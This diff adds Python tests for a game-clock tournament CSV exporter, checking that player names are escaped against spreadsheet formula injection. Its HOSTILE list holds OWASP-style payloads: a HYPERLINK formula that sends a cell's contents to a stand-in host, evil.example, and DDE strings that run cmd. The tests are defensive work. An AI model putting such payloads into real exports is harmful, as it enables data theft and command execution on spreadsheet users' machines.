@@ -6,8 +6,10 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 from exportkit import crossword_event_3
+from kit import xw
 
 from bench.dock import SERIAL, sample_records
 from gameclock.cli import main
@@ -110,3 +112,45 @@ def test_csv_sudoku_record_without_winner_or_game_points():
     assert [(x["division"], x["round"], x["table"], x["player1"], x["score1"], x["player2"], x["score2"],
              x["winner"], x["reason"], x["points1"], x["points2"], x["id"]) for x in rows] == [
         ("su", "1", "4", "Dao", "109", "Eak", "80", "", "", "", "", "clock5-000001")]
+
+
+# CSV injection (OWASP "CSV Injection"; issue 24, B7): a spreadsheet runs a cell that begins with =, +,
+# -, @, a tab or a carriage return as a formula. Players' names are anybody's text (a clock's pairing,
+# an uploaded list): these four are OWASP's own kinds (a link sending the sheet away, DDE commands).
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_csv() -> bytes:
+    # table 1: 300 v 330, the right wins by 30 (XW-8, under the cap): spread1 -30, spread2 30
+    # table 2: 400 v 350: spread1 50, spread2 -50
+    records = [xw(1, "3", 1, 1, HOSTILE[0], HOSTILE[1], 300, 330), xw(2, "3", 1, 2, HOSTILE[2], HOSTILE[3], 400, 350)]
+    return csv_export.export(divisions(games_from_records(records)))
+
+
+def test_csv_names_a_spreadsheet_would_run_are_written_as_text_and_stay_readable():
+    text = hostile_csv().decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    # OWASP's advice: a single quote before the cell (the spreadsheet shows it as text), the name after it
+    assert [(r["player1"], r["player2"]) for r in rows] == [("'" + HOSTILE[0], "'" + HOSTILE[1]),
+                                                            ("'" + HOSTILE[2], "'" + HOSTILE[3])]
+    assert (rows[0]["winner"], rows[1]["winner"]) == ("'" + HOSTILE[1], "'" + HOSTILE[2])
+    # no cell begins with a formula's character unless it is a plain number (a negative spread)
+    for r in csv.reader(io.StringIO(text)):
+        for cell in r:
+            assert not cell.startswith(TRIGGERS) or re.fullmatch(r"-[0-9]+", cell), cell
+    # ... and the cell quoted (OWASP), its own quotes doubled: a `,` or `;` in it starts no new cell
+    line1 = text.splitlines()[1]
+    assert line1.startswith('3,1,1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",300,')
+    # a negative spread stays a number a spreadsheet sums: written as it is, unquoted
+    assert ",-30,30," in line1 and ",50,-50," in text.splitlines()[2]
+    assert (rows[0]["spread1"], rows[1]["spread2"]) == ("-30", "-50")
+
+
+def test_gameclock_pairings_reads_neutralised_names_back_as_they_were(tmp_path):
+    path = tmp_path / "hostile.csv"
+    path.write_bytes(hostile_csv())
+    pairs = load_pairings(path, round=1)
+    assert [p["players"] for p in pairs] == [{"left": HOSTILE[0], "right": HOSTILE[1]},
+                                             {"left": HOSTILE[2], "right": HOSTILE[3]}]
